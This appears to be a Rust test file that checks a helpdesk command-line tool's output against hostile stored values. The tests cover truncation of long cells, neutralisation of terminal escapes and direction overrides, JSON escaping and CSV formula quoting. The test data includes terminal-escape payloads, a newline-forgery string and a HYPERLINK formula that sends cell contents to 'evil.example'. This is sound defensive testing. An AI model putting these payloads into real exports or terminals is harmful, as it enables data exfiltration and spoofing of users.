//! What the real binary writes: never a panic on a cell, nothing a terminal
//! or a spreadsheet would act on, and a clear end when the output cannot be
//! written.

use crate::sandbox;

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};

use sandbox::{Sandbox, with_db};

const EVIL: &str = "Evil \u{1b}]0;pwned\u{7} \u{202E}txt.exe";
/// What one-line fields still take: a direction override, no control character.
const BIDI: &str = "Evil \u{202E}txt.exe";

fn no_panic(out: &std::process::Output) {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!stderr.contains("panicked"), "{stderr}");
}

/// Raw SQL on the file, past every check of the store: the long values a
/// damaged file or another tool can leave behind.
fn sql(db: &std::path::Path, statements: &str) {
    let conn = rusqlite::Connection::open(db).unwrap();
    conn.execute_batch("PRAGMA ignore_check_constraints = ON").unwrap();
    conn.execute_batch(statements).unwrap();
}

#[test]
fn values_of_seventy_thousand_characters_never_break_a_table() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer jammed", "--reporter", "Anna", "--team", "Workplace"]));
    s.ok(&with_db(&db, &["problem", "new", "--title", "Printers", "--incident", "1"]));
    s.ok(&with_db(&db, &["kb", "add", "--title", "Printer help", "--body", "Turn it off and on."]));
    let long = "x".repeat(70_000);
    sql(
        &db,
        &format!(
            "UPDATE teams SET name = '{long}' WHERE name = 'Workplace';
             UPDATE tickets SET team = '{long}', title = '{long}', category = '{long}', department = '{long}',
                                reporter_name = '{long}', assignee = '{long}';
             UPDATE agents SET name = '{long}' WHERE id = (SELECT min(id) FROM agents);
             UPDATE problems SET title = '{long}';
             UPDATE knowledge SET title = '{long}';
             UPDATE categories SET name = '{long}' WHERE id = (SELECT min(id) FROM categories);
             UPDATE departments SET name = '{long}' WHERE id = (SELECT min(id) FROM departments);"
        ),
    );
    let mut commands: Vec<Vec<&str>> = vec![
        vec!["team", "list"],
        vec!["agent", "list"],
        vec!["ticket", "list"],
        vec!["ticket", "show", "1"],
        vec!["problem", "list"],
        vec!["problem", "show", "1"],
        vec!["problem", "recurring", "--min", "1"],
        vec!["kb", "search"],
        vec!["kb", "show", "1"],
        vec!["export", "--format", "csv"],
    ];
    let reports = ["daily", "sla", "times", "fcr", "reassignments", "satisfaction", "volume", "recurring", "backlog"];
    for report in reports {
        commands.push(vec!["report", report]);
        commands.push(vec!["report", report, "--format", "markdown"]);
        commands.push(vec!["report", report, "--format", "csv"]);
    }
    for args in &commands {
        let out = s.run(&with_db(&db, args));
        no_panic(&out);
        assert!(out.status.success(), "{args:?}: {}", String::from_utf8_lossy(&out.stderr));
    }
    // In a list the long cells are cut, so the columns after them stay in view.
    let list = s.ok(&with_db(&db, &["ticket", "list"]));
    let row = list.lines().nth(1).unwrap();
    assert!(row.chars().count() < 300 && row.contains("x…"), "{row}");
    let teams = s.ok(&with_db(&db, &["team", "list"]));
    assert!(teams.lines().all(|l| l.chars().count() < 300), "{}", &teams[..400]);
}

#[test]
fn escape_sequences_and_direction_overrides_never_reach_the_terminal() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    // One-line fields refuse control characters (the refusal repeats the
    // value inert); direction overrides pass, and what was stored before the
    // checks (or by another tool) comes in by SQL.
    let refused = s.run(&with_db(&db, &["team", "add", EVIL]));
    let stderr = String::from_utf8(refused.stderr).unwrap();
    assert!(!refused.status.success() && !stderr.contains('\u{1b}'), "{stderr:?}");
    let mut outputs = vec![
        s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna", "--description", EVIL])),
    ];
    sql(&db, &format!("UPDATE tickets SET title = '{EVIL}', reporter_name = '{EVIL}'"));
    outputs.extend([
        s.ok(&with_db(&db, &["team", "add", BIDI])),
        s.ok(&with_db(&db, &["ticket", "restrict", "1", "--team", BIDI])),
        s.ok(&with_db(&db, &["ticket", "note", "1", EVIL])),
        s.ok(&with_db(&db, &["team", "list"])),
        s.ok(&with_db(&db, &["ticket", "list"])),
        s.ok(&with_db(&db, &["ticket", "show", "1"])),
        s.ok(&with_db(&db, &["report", "volume"])),
    ]);
    s.ok(&with_db(&db, &["privacy", "erase", "--reporter", "nobody@example.com"]));
    sql(&db, &format!("UPDATE privacy_log SET actor = '{EVIL}', subject = '{EVIL}'"));
    outputs.push(s.ok(&with_db(&db, &["privacy", "log"])));
    for out in &outputs {
        assert!(!out.contains('\u{1b}') && !out.contains('\u{7}') && !out.contains('\u{202E}'), "{out:?}");
    }
    assert!(outputs[1].contains("Evil \u{FFFD}txt.exe"), "{}", outputs[1]);
    assert!(outputs[2].contains("Evil \u{FFFD}txt.exe"), "{}", outputs[2]);
    assert!(outputs[5].contains("Evil ␛]0;pwned␇ \u{FFFD}txt.exe"), "{}", outputs[5]);
    // An echo stays one line: a line break in a name cannot forge another.
    // (Refusing such a name is as good.)
    let echo = s.run(&with_db(&db, &["team", "add", "Night\nmeldpunt: you are now admin"]));
    let shown = String::from_utf8_lossy(&echo.stdout);
    assert!(shown.lines().count() <= 1 && !shown.contains("\nmeldpunt"), "{shown}");
    // An error that repeats what was typed repeats it inert.
    let bad = s.run(&with_db(&db, &["ticket", "list", "--sort", EVIL]));
    let stderr = String::from_utf8(bad.stderr).unwrap();
    assert!(!bad.status.success() && stderr.contains("Evil ␛]0;pwned␇"), "{stderr}");
    assert!(!stderr.contains('\u{1b}') && !stderr.contains('\u{202E}'), "{stderr:?}");
}

#[test]
fn json_keeps_the_data_exact_but_escapes_what_a_terminal_would_act_on() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    let title = format!("{EVIL} \u{9b}31m zero\u{200B}width");
    s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna"]));
    sql(&db, &format!("UPDATE tickets SET title = '{title}'"));
    for args in [vec!["ticket", "list", "--json"], vec!["ticket", "show", "1", "--json"], vec!["export"]] {
        let out = s.ok(&with_db(&db, &args));
        assert!(out.contains("\\u001b") && out.contains("\\u202e") && out.contains("\\u009b"), "{args:?}: {out}");
        assert!(out.contains("\\u200b"), "{args:?}: {out}");
        assert!(!out.contains('\u{1b}') && !out.contains('\u{202E}') && !out.contains('\u{9b}'), "{args:?}");
        let value: serde_json::Value = serde_json::from_str(&out).unwrap();
        let read = match args[0] {
            "export" => value["tickets"][0]["ticket"]["title"].clone(),
            _ if args[1] == "list" => value[0]["title"].clone(),
            _ => value["title"].clone(),
        };
        assert_eq!(read.as_str(), Some(title.as_str()), "{args:?}");
    }
    let report = s.ok(&with_db(&db, &["report", "volume", "--format", "json"]));
    assert!(!report.contains('\u{202E}'));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_start_with_a_quote() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    s.ok(&with_db(&db, &["ticket", "new", "--title", formula, "--reporter", "@Anna"]));
    sql(&db, "UPDATE tickets SET category = '-2+3', department = '+Sales'");
    let out = s.ok(&with_db(&db, &["export", "--format", "csv"]));
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    let header = reader.headers().unwrap().clone();
    let row = reader.records().next().unwrap().unwrap();
    let cell = |name: &str| row.get(header.iter().position(|h| h == name).unwrap()).unwrap().to_string();
    assert_eq!(cell("title"), format!("'{formula}"));
    assert_eq!(cell("reporter"), "'@Anna");
    assert_eq!(cell("department"), "'+Sales");
    assert_eq!(cell("category"), "'-2+3");
    assert_eq!(cell("number"), "INC-000001");

    let report = s.ok(&with_db(&db, &["report", "volume", "--period", "7d", "--format", "csv"]));
    assert!(report.lines().any(|l| l.starts_with("'-2+3,1")), "{report}");
    assert!(!report.lines().any(|l| l.starts_with("-2+3")), "{report}");
}

/// Reads the first line of a command's output and closes the pipe.
fn first_line_then_close(s: &Sandbox, args: &[&str]) -> std::process::Output {
    let home = s.dir.path().join("home");
    let mut child = Command::new(env!("CARGO_BIN_EXE_meldpunt"))
        .args(args)
        .env("HOME", &home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_DATA_HOME", home.join(".local/share"))
        .env("LANG", "en_GB.UTF-8")
        .env_remove("LC_ALL")
        .env_remove("MELDPUNT_DB")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    assert!(!line.is_empty());
    child.wait_with_output().unwrap()
}

#[test]
fn a_closed_pipe_ends_quietly() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    s.ok(&with_db(&db, &["demo", "--tickets", "1500"]));
    for args in [
        with_db(&db, &["ticket", "list", "--all", "--limit", "1500"]),
        with_db(&db, &["export"]),
        with_db(&db, &["export", "--format", "csv"]),
        vec!["completions", "bash"],
    ] {
        let out = first_line_then_close(&s, &args);
        assert!(out.status.success(), "{args:?}: {:?}", out.status);
        assert_eq!(String::from_utf8_lossy(&out.stderr), "", "{args:?}");
    }
}

#[test]
fn a_full_disk_is_named_and_fails() {
    if !std::path::Path::new("/dev/full").exists() {
        return;
    }
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna"]));
    for args in [
        with_db(&db, &["ticket", "list"]),
        with_db(&db, &["team", "list", "--json"]),
        with_db(&db, &["export"]),
        with_db(&db, &["report", "volume", "--format", "csv"]),
        with_db(&db, &["ticket", "new", "--title", "Scanner", "--reporter", "Bas"]),
        vec!["completions", "bash"],
        vec!["--help"],
    ] {
        let home = s.dir.path().join("home");
        let out = Command::new(env!("CARGO_BIN_EXE_meldpunt"))
            .args(&args)
            .env("HOME", &home)
            .env("XDG_CONFIG_HOME", home.join(".config"))
            .env("LANG", "en_GB.UTF-8")
            .env_remove("LC_ALL")
            .stdout(std::fs::OpenOptions::new().write(true).open("/dev/full").unwrap())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{args:?}: {stderr}");
        assert!(stderr.contains("cannot write the output") && stderr.contains("No space left"), "{args:?}: {stderr}");
        assert!(!stderr.contains("panicked"), "{stderr}");
        if args.contains(&"new") {
            // The ticket is there: the user is told, not left to make it twice.
            assert!(stderr.contains("INC-000002 was created, but saying so failed"), "{stderr}");
        }
    }
}

#[test]
fn numbers_out_of_range_are_refused_with_their_range() {
    let s = Sandbox::new();
    let db = s.db();
    s.ok(&with_db(&db, &["init"]));
    s.ok(&with_db(&db, &["ticket", "new", "--title", "Printer", "--reporter", "Anna"]));
    let huge = "18446744073709551615";
    let cases: Vec<(Vec<&str>, &str)> = vec![
        (vec!["problem", "recurring", "--days", "999999999"], "1..=36500"),
        (vec!["problem", "recurring", "--days", "0"], "1..=36500"),
        (vec!["problem", "recurring", "--min", huge], "1..=1000000"),
        (vec!["kb", "search", "--limit", huge], "1..=10000"),
        (vec!["ticket", "list", "--limit", huge], "1..=100000"),
        (vec!["ticket", "list", "--limit", "0"], "1..=100000"),
        (vec!["ticket", "list", "--limit", "99999999999999999999"], "1..=100000"),
        (vec!["kb", "search", "--limit", "99999999999999999999"], "1..=10000"),
        (vec!["problem", "recurring", "--days", "99999999999999999999"], "1..=36500"),
        (vec!["team", "add", "Night", "--line", "99999999999999999999"], "1..=3"),
        (vec!["privacy", "retention", "--months", "4294967295"], "1..=1200"),
        (vec!["demo", "--tickets", "99999999999"], "0..=10000000"),
        (vec!["feedback", "1", "--score", "300"], "1..=5"),
        (vec!["team", "add", "Night", "--line", "9"], "1..=3"),
        (vec!["agent", "add", "zz", "--name", "Z", "--line", "9"], "1..=3"),
        (vec!["ticket", "update", "1", "--title", "x", "--expect-version=-5"], "1..="),
    ];
    for (args, range) in cases {
        let out = s.run(&with_db(&db, &args));
        let stderr = String::from_utf8_lossy(&out.stderr);
        no_panic(&out);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(range), "{args:?}: {stderr}");
    }
    assert!(s.run(&with_db(&db, &["agent", "list"])).status.success());
    assert!(!s.ok(&with_db(&db, &["agent", "list"])).contains("zz"), "nothing was added");
}
